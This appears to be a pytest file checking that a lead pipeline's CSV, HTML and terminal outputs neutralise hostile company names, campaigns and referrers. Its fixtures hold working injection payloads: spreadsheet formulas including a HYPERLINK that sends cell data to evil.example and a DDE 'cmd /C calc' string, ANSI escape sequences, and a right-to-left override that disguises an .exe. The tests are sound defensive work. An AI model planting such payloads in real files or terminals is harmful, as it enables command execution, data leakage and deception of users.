"""Issue 12, items 7 and 8: what leaves the pipeline is inert and keeps secrets.

Item 7: company names, campaigns and referrers are registry- or visitor-controlled, so no
cell of the sales CSV starts a formula, and no control or bidi character (ESC sequences,
NUL, U+202E...) reaches the CSV, the HTML report or the terminal.
"""

from __future__ import annotations

import csv
import io
import re

import duckdb
import pytest
from rich.console import Console
from typer.testing import CliRunner

from flows import cli, stages
from flows.config import load_settings
from tests.conftest import combined, write_log

# Every character that may rewrite a terminal or reorder what a reader sees.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_NAMES = {
    "185.213.44.0/24": '=HYPERLINK("http://evil.example/?"&A1,"Click") Oy',
    "193.166.220.0/24": "@SUM(1+1) Oy",
    "80.248.161.0/24": "-2+3 Oy",
    "91.152.138.0/24": "Esc\x1b[2J\x1b]8;;http://evil.example\x1b\\Oy [link=http://evil.example]x[/link]",
    "62.78.0.0/24": "Invoice\u202egnp.exe Oy\x00\x9b31m",
}


@pytest.fixture
def hostile(tmp_path):
    """A database whose companies, campaigns and referrers were chosen by an attacker."""
    networks = io.StringIO()
    writer = csv.writer(networks)
    writer.writerow(["cidr", "organisation", "kind"])
    for cidr, name in HOSTILE_NAMES.items():
        writer.writerow([cidr, name, "company"])
    path = tmp_path / "networks.csv"
    path.write_text(networks.getvalue())
    lines = []
    for i, cidr in enumerate(HOSTILE_NAMES):
        client = cidr.split("/")[0][:-1] + "7"
        lines.append(combined(client=client, ts=f"21/Nov/2026:1{i}:00:00 +0200",
                              request="GET /pricing?utm_campaign=%3Dcmd%7C%27%20%2FC%20calc%27%21A0 HTTP/1.1",
                              referrer="https://-evil.example/x"))
        lines.append(combined(client=client, ts=f"21/Nov/2026:1{i}:05:00 +0200",
                              request="GET /?utm_campaign=%E2%80%AEfdp.exe%1B%5B2J HTTP/1.1"))
    settings = load_settings(
        {"db": str(tmp_path / "leads.duckdb"), "logs": [str(write_log(tmp_path / "access.log", lines))],
         "offline": True, "report_dir": str(tmp_path / "reports")},
        None, {"LEADPIPE_CONFIG_DIR": str(tmp_path / "cfg")},
    )
    stages.execute(settings, "networks import", [stages.import_network_list(path, "operator")])
    stages.execute(settings, "run", ["ingest", "resolve", "load"])
    stats = stages.execute(settings, "report", ["report"])
    return settings, stats


def test_no_cell_of_the_sales_csv_executes_or_carries_control_characters(hostile):
    _, stats = hostile
    raw = open(stats["report_csv"], "rb").read().decode("utf-8-sig")
    assert not UNSAFE.search(raw.replace("\r\n", "\n")), "a control or bidi character reached the CSV"
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    assert len(rows) == 1 + len(HOSTILE_NAMES)
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
    names = {row[1] for row in rows[1:]}
    # Neutralised, not lost: the text is still there behind the quote.
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") Oy" in names and "'@SUM(1+1) Oy" in names
    assert "'-2+3 Oy" in names
    assert any(row[14].startswith("'=cmd|") for row in rows[1:])  # campaigns
    assert any(row[13].startswith("'-evil.example") for row in rows[1:])  # referrers


def test_csv_keeps_numbers_as_numbers_and_quotes_text(tmp_path):
    from sinks.report import CSV_COLUMNS, write_csv

    row = {c: None for c in CSV_COLUMNS} | {"rank": 1, "name": "+358 Oy", "visits": 3, "score": -2.5,
                                            "top_pages": ["-x (1)"], "new": True, "industry": "-12,5"}
    write_csv({"companies": [row]}, tmp_path / "r.csv")
    header, line = (tmp_path / "r.csv").read_text(encoding="utf-8-sig").splitlines()[:2]
    cells = line.split(";")
    assert cells[0] == "1" and cells[6] == "3" and cells[10] == "-2.5"  # numbers stay numbers, unquoted
    assert cells[1] == "\"'+358 Oy\"" and cells[12] == "\"'-x (1)\"" and cells[15] == '"yes"'
    assert cells[3] == '"-12,5"'  # a plain number in a text column cannot compute anything


def test_the_html_report_carries_no_control_or_bidi_character(hostile):
    _, stats = hostile
    html = open(stats["report_html"], encoding="utf-8").read()
    assert not UNSAFE.search(html)
    assert "Invoicegnp.exe Oy" in html  # the text is kept, only the override is gone


def test_the_terminal_summary_shows_names_as_text(hostile, monkeypatch):
    settings, stats = hostile
    screen = io.StringIO()
    monkeypatch.setattr(cli, "console", Console(file=screen, force_terminal=True, width=400))
    cli.print_summary(stats, settings.db)
    out = screen.getvalue()
    assert "\x1b[2J" not in out and "\x1b]8;" not in out, "a company name drove the terminal"
    assert not re.search("[\x00\u202e\x9b]", out)
    assert "[link=http://evil.example]x[/link]" in out  # Rich markup in a name is shown, not obeyed


@pytest.mark.parametrize("name", ["missing[/]x.log", "missing\x1b[2J\u202ex.log"])
def test_one_line_errors_are_inert_on_the_terminal(tmp_path, name):
    result = CliRunner().invoke(cli.app, ["ingest", "--db", str(tmp_path / "x.duckdb"), "--logs", str(tmp_path / name)])
    assert result.exit_code == 1, result.output
    assert "leadpipe: error:" in result.stderr and "Traceback" not in result.output
    assert not UNSAFE.search(result.stderr)
    with duckdb.connect(str(tmp_path / "x.duckdb"), read_only=True) as con:
        (error,), = con.execute("SELECT error FROM runs").fetchall()
    assert not UNSAFE.search(error)

